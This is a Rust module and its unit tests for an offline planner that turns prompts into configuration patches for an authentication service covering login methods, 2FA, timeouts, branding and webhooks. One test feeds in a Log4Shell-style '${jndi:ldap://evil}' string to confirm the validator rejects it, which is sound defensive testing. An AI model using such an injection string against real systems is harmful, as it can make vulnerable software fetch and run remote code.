//! The rules planner: offline and deterministic. It recognises a fixed set of requests by their
//! keywords, pulls the values it needs out of the prompt (numbers, durations, colors, URLs, IP
//! networks, language names) and writes the patch. One prompt may ask for several things
//! ("add Google and GitHub login and require 2FA for admins"); each recognised request adds its
//! operations, in the fixed order of [`RULES`].
//!
//! It only turns things on or sets values: a prompt that asks to disable or remove something is
//! refused, so that "turn off 2FA" can never be planned as "turn on 2FA". A request that is
//! already in place gives a proposal with an empty patch whose summary starts with
//! "Nothing changes:" (the customization API may then skip the deploy). A request whose values
//! would make the configuration invalid (an `http://` logo, a 30-second session timeout) is
//! refused with the validation error, as is a prompt mixing a recognised request with one that
//! cannot be done (SAML on a plan without single sign-on): nothing is ever planned half-way.
//!
//! Each rule lives with the others of its configuration area (`auth`, `security`,
//! `organizations`, `webhooks`, `branding`, `languages`); rules read the prompt through `tokens`
//! and its vocabulary in `words`, and write to a `draft::Draft`.

mod auth;
mod branding;
mod draft;
mod languages;
mod organizations;
mod security;
#[cfg(test)]
mod testing;
mod tokens;
mod webhooks;
mod words;

use serde_json::Value;

use super::{PlanContext, Planned, Planner, Proposal, describe};
use draft::{Draft, Step};
use tokens::Prompt;

/// The rules planner (see the module documentation).
#[derive(Debug, Clone, Copy, Default)]
pub struct RulesPlanner;

#[async_trait::async_trait]
impl Planner for RulesPlanner {
    fn name(&self) -> &'static str {
        "rules"
    }

    async fn plan(&self, prompt: &str, context: &PlanContext<'_>) -> anyhow::Result<Planned> {
        plan(prompt, context)
    }
}

/// What one rule can do, for the "I can't do that yet" message.
struct Rule {
    can: &'static str,
    plan: fn(&Prompt, &mut Draft) -> Step,
}

/// Every request the planner understands, in the order their operations appear in a patch.
const RULES: &[Rule] = &[
    Rule {
        can: "add Google or GitHub sign-in (\"add Google login\")",
        plan: auth::social,
    },
    Rule {
        can: "turn on passwordless magic links",
        plan: auth::magic_link,
    },
    Rule {
        can: "turn on passkeys",
        plan: auth::passkeys,
    },
    Rule {
        can: "require email verification",
        plan: auth::email_verification,
    },
    Rule {
        can: "enable two-factor authentication, optional or required (for everyone or for admins)",
        plan: auth::mfa,
    },
    Rule {
        can: "enable SAML single sign-on for enterprise tenants (plans with single sign-on)",
        plan: auth::saml,
    },
    Rule {
        can: "add a CAPTCHA to signup (and login)",
        plan: auth::captcha,
    },
    Rule {
        can: "ask for or require a phone number at signup",
        plan: auth::phone,
    },
    Rule {
        can: "set the minimum password length",
        plan: security::password_length,
    },
    Rule {
        can: "let organizations set their own password policies",
        plan: security::organization_passwords,
    },
    Rule {
        can: "set a session (idle) timeout",
        plan: security::session_timeout,
    },
    Rule {
        can: "limit failed login attempts (\"5 attempts per 15 minutes\")",
        plan: security::login_rate_limit,
    },
    Rule {
        can: "let organizations create custom roles (\"up to 10\")",
        plan: organizations::custom_roles,
    },
    Rule {
        can: "restrict admin access to IP networks",
        plan: security::admin_allowlist,
    },
    Rule {
        can: "send auth events to a webhook",
        plan: webhooks::webhook,
    },
    Rule {
        can: "set the primary color (a name or #hex)",
        plan: branding::primary_color,
    },
    Rule {
        can: "use a logo from an https URL",
        plan: branding::logo,
    },
    Rule {
        can: "switch to dark mode (or light, or follow the system)",
        plan: branding::appearance,
    },
    Rule {
        can: "translate the hosted pages to English, French or German",
        plan: languages::languages,
    },
];

/// Plans `text` against `context` (the whole rules planner, synchronous).
pub fn plan(text: &str, context: &PlanContext<'_>) -> anyhow::Result<Planned> {
    let prompt = Prompt::parse(text);
    if prompt.words.is_empty() {
        return Ok(unsupported("The request is empty."));
    }
    if prompt.is_negative() {
        return Ok(unsupported(
            "I can only turn features on or set values so far; to turn something off or remove \
             it, change the configuration directly (a new revision).",
        ));
    }
    let mut draft = Draft::new(context)?;
    let mut handled = false;
    let mut refusals = Vec::new();
    for rule in RULES {
        match (rule.plan)(&prompt, &mut draft) {
            Step::NotAsked => {}
            Step::Done => handled = true,
            Step::Refused(message) => refusals.push(message),
        }
    }
    if !refusals.is_empty() {
        return Ok(Planned::Unsupported {
            message: refusals.join(" "),
        });
    }
    if !handled {
        return Ok(unsupported("I can't do that yet."));
    }
    let summary = if draft.ops.is_empty() {
        format!("Nothing changes: {}", draft.sentences.join(" "))
    } else {
        draft.sentences.join(" ")
    };
    // Values come from the prompt (URLs above all): the same guard as for a model's answer.
    for op in &draft.ops {
        if let Some(Err(why)) = op.get("value").map(super::llm::check_value) {
            return Ok(Planned::Unsupported {
                message: format!("I won't put that in the configuration: the value {why}."),
            });
        }
    }
    let patch: json_patch::Patch = serde_json::from_value(Value::Array(draft.ops))?;
    Ok(
        match Proposal::checked(context.current, patch, summary, Vec::new()) {
            Ok(proposal) => Planned::Proposal(proposal),
            Err(errors) => Planned::Unsupported {
                message: format!(
                    "That change would not be a valid configuration: {}.",
                    describe(&errors)
                ),
            },
        },
    )
}

fn unsupported(why: &str) -> Planned {
    let can: Vec<&str> = RULES.iter().map(|rule| rule.can).collect();
    Planned::Unsupported {
        message: format!("{why} I can: {}.", can.join("; ")),
    }
}

#[cfg(test)]
mod tests {
    use super::testing::{self, context, proposal, proposal_default, refusal};
    use super::*;
    use authstack_instance::config::{InstanceConfig, MfaMode, Webhook};
    use serde_json::json;

    /// Prompts asking for several things at once and their patches (see
    /// [`testing::assert_patches`]).
    #[rustfmt::skip]
    const CASES: &[(&str, &[&str])] = &[
        ("Add Google login, require 2FA for admins and set the session timeout to 1 hour", &[
            "replace /auth/social/google/enabled true",
            "replace /auth/mfa/mode \"required_for_admins\"",
            "replace /tokens/session_idle_timeout_secs 3600",
        ]),
        ("Enable SMS 2FA and require a phone number at signup", &[
            "replace /auth/mfa/mode \"optional\"",
            "replace /auth/mfa/methods [\"totp\",\"webauthn\",\"sms\"]",
            "replace /auth/signup/fields/phone \"required\"",
        ]),
        ("limit failed logins to 5 per 15 minutes and log users out after 20 minutes idle", &[
            "replace /tokens/session_idle_timeout_secs 1200",
            "replace /rate_limits/failed_logins_per_account/max 5",
        ]),
    ];

    #[test]
    fn each_prompt_becomes_its_patch() {
        testing::assert_patches(CASES);
    }

    #[test]
    fn unknown_and_negative_prompts_are_refused_with_what_it_can_do() {
        let current = InstanceConfig::default();
        for prompt in [
            "Make me a sandwich",
            "Export all users to a spreadsheet",
            "",
            "   ",
            "Rewrite the login handler in Python",
        ] {
            let message = refusal(prompt, &current, "pro");
            assert!(message.contains("I can:"), "{prompt:?}: {message}");
            assert!(message.contains("Google or GitHub"), "{message}");
            assert!(message.contains("dark mode"), "{message}");
        }
        for prompt in [
            "Disable Google login",
            "turn off 2FA",
            "Remove the logo",
            "Don't require email verification",
        ] {
            let message = refusal(prompt, &current, "pro");
            assert!(
                message.contains("only turn features on"),
                "{prompt}: {message}"
            );
        }
    }

    #[test]
    fn values_that_would_not_validate_are_refused_with_the_field() {
        let current = InstanceConfig::default();
        let message = refusal(
            "use http://example.com/logo.png as our logo",
            &current,
            "pro",
        );
        assert!(message.contains("branding.logo_url"), "{message}");
        let message = refusal("session timeout 30 seconds", &current, "pro");
        assert!(
            message.contains("tokens.session_idle_timeout_secs"),
            "{message}"
        );
        let message = refusal("minimum password length 4", &current, "pro");
        assert!(message.contains("passwords.min_length"), "{message}");
        let message = refusal(
            "use https://example.com/${jndi:ldap://evil}/logo.png as logo",
            &current,
            "pro",
        );
        assert!(message.contains("looks like code"), "{message}");
        let message = refusal(
            "Send login events to http://hooks.example.com/x",
            &current,
            "pro",
        );
        assert!(message.contains("webhooks[0].url"), "{message}");
    }

    #[test]
    fn requests_missing_their_value_ask_for_it() {
        let current = InstanceConfig::default();
        assert!(refusal("change the primary color", &current, "pro").contains("Which color?"));
        assert!(refusal("update the logo", &current, "pro").contains("Where is the logo?"));
        assert!(refusal("translate to Klingon", &current, "pro").contains("Which languages?"));
        assert!(
            refusal("set up an admin IP allowlist", &current, "pro").contains("Which networks?")
        );
        assert!(refusal("limit login attempts", &current, "pro").contains("How many"));
    }

    #[test]
    fn what_is_already_in_place_changes_nothing() {
        let mut current = InstanceConfig::default();
        current.auth.social.google.enabled = true;
        current.auth.mfa.mode = MfaMode::Required;
        let proposal = proposal("Add Google login and enable 2FA", &current, "pro");
        assert!(proposal.patch.0.is_empty());
        assert!(
            proposal.summary.starts_with("Nothing changes:"),
            "{}",
            proposal.summary
        );
        assert!(
            proposal
                .summary
                .contains("Sign-in with Google is already on.")
        );
        assert!(proposal.security_notes.is_empty());
        // "Enable 2FA for admins" never weakens "required for everyone".
        let proposal =
            super::super::rules::plan("enable 2FA for admins", &context(&current, "pro"));
        match proposal {
            Ok(Planned::Proposal(p)) => assert!(p.patch.0.is_empty()),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn plans_build_on_the_current_configuration() {
        let mut current = InstanceConfig::default();
        current.i18n.default_language = "fr".into();
        current.i18n.languages = vec!["fr".into()];
        current.security.admin_ip_allowlist = vec!["10.0.0.0/8".into()];
        current.tokens.session_lifetime_secs = 3600;
        current.webhooks.push(Webhook {
            url: "https://example.com/hook".into(),
            events: vec!["auth.*".into()],
            description: None,
        });
        let patch = |prompt: &str| {
            serde_json::to_value(proposal(prompt, &current, "pro").patch).expect("serializable")
        };
        assert_eq!(
            patch("translate into German and French"),
            json!([{"op": "replace", "path": "/i18n/languages", "value": ["fr", "de"]}])
        );
        assert_eq!(
            patch("restrict admin access to 10.0.0.0/8 and 192.0.2.0/24"),
            json!([{"op": "add", "path": "/security/admin_ip_allowlist/-", "value": "192.0.2.0/24"}])
        );
        // An idle timeout longer than the lifetime raises the lifetime, keeping it valid.
        assert_eq!(
            patch("session timeout 2 hours"),
            json!([
                {"op": "replace", "path": "/tokens/session_idle_timeout_secs", "value": 7200},
                {"op": "replace", "path": "/tokens/session_lifetime_secs", "value": 7200},
            ])
        );
        assert_eq!(
            patch("also send organization events to https://example.com/hook"),
            json!([{"op": "replace", "path": "/webhooks/0/events", "value": ["auth.*", "organization.*"]}])
        );
        // MFA methods are kept when a method is added; an empty list gets sensible ones.
        current.auth.mfa.methods.clear();
        assert_eq!(
            serde_json::to_value(proposal("enable 2fa", &current, "pro").patch)
                .expect("serializable"),
            json!([
                {"op": "replace", "path": "/auth/mfa/mode", "value": "optional"},
                {"op": "replace", "path": "/auth/mfa/methods", "value": ["totp", "webauthn"]},
            ])
        );
    }

    #[test]
    fn security_notes_explain_weakening_requests() {
        let mut current = InstanceConfig::default();
        current.passwords.min_length = 12;
        let proposal = proposal("minimum password length 8", &current, "pro");
        assert!(
            proposal.security_notes[0].starts_with("Lowering the password minimum from 12 to 8"),
            "{:?}",
            proposal.security_notes
        );
        let proposal = proposal_default("Add a magic link login");
        assert!(
            proposal
                .security_notes
                .iter()
                .any(|n| n.contains("mailbox"))
        );
    }

    #[test]
    fn planning_is_deterministic() {
        let prompt =
            "Add GitHub login, dark mode, translate to German and limit login attempts to 4";
        let first = proposal_default(prompt);
        for _ in 0..3 {
            assert_eq!(proposal_default(prompt), first);
        }
        assert_eq!(first.patch.0.len(), 4);
    }
}
